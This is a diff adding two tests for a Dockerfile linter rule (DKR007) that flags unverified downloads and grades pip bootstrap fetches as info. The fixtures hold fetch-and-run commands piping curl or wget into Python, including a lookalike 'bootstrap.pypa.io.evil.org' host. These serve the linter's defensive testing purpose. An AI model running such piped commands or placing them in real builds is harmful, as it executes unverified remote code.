@@ -315,6 +315,44 @@ def test_dkr007_once_per_instruction(make_repo):
     ]
 
 
+def test_dkr007_pip_bootstrap_is_info_in_its_own_message(make_repo):
+    dockerfile = (
+        f"FROM {PINNED_BASE}\n"
+        "RUN curl -sS https://bootstrap.pypa.io/get-pip.py | python3.10 && python3.10 -m pip install -r r.txt\n"
+        "RUN curl -sSLo get-pip.py https://bootstrap.pypa.io/pip/3.8/get-pip.py && python get-pip.py\n"
+        "RUN wget -qO- https://bootstrap.pypa.io/get-pip.py | pypy3\n"
+        "USER app\n"
+    )
+    root = make_repo({"Dockerfile": dockerfile, "r.txt": "x==1\n"})
+    found = [(f["line"], f["severity"], f["message"]) for f in findings(root, select="DKR007")]
+    assert [(line, severity) for line, severity, _ in found] == [(2, "info"), (3, "info"), (4, "info")]
+    assert found[0][2] == (
+        "RUN curl https://bootstrap.pypa.io/get-pip.py | python3.10 bootstraps pip from a script it does not verify, "
+        "so the pip version floats: pin pip afterwards (python -m pip install pip==<version>) or verify the script "
+        "(sha256sum -c)"
+    )
+    assert "curl https://bootstrap.pypa.io/pip/3.8/get-pip.py bootstraps pip" in found[1][2]
+
+
+def test_dkr007_other_fetches_stay_warnings_beside_a_pip_bootstrap(make_repo):
+    dockerfile = (
+        f"FROM {PINNED_BASE}\n"
+        "RUN curl -sS https://bootstrap.pypa.io/get-pip.py | python3 && wget https://x.org/model.pth -P /ckpt\n"
+        "RUN curl -fsSL https://bootstrap.pypa.io.evil.org/get-pip.py | python3\n"
+        "RUN curl -fsSL https://x.org/install.py | python3.11\n"
+        "USER app\n"
+    )
+    root = make_repo({"Dockerfile": dockerfile})
+    found = [(f["line"], f["severity"], f["message"]) for f in findings(root, select="DKR007")]
+    assert [(line, severity) for line, severity, _ in found] == [(2, "warning"), (3, "warning"), (4, "warning")]
+    assert found[0][2] == (
+        "RUN wget https://x.org/model.pth downloads without a checksum check (sha256sum -c) in this RUN (the pip "
+        "bootstrap curl https://bootstrap.pypa.io/get-pip.py | python3 too): download to a file and verify it "
+        '(echo "<sha256>  file" | sha256sum -c -) before use'
+    )
+    assert "curl https://x.org/install.py | python3.11 runs a remote script unverified" in found[2][2]
+
+
 # -- DKR008: ARGs without defaults --------------------------------------------------------------------------------
 def test_dkr008_arg_without_default_deciding_image_or_version(make_repo):
     dockerfile = (
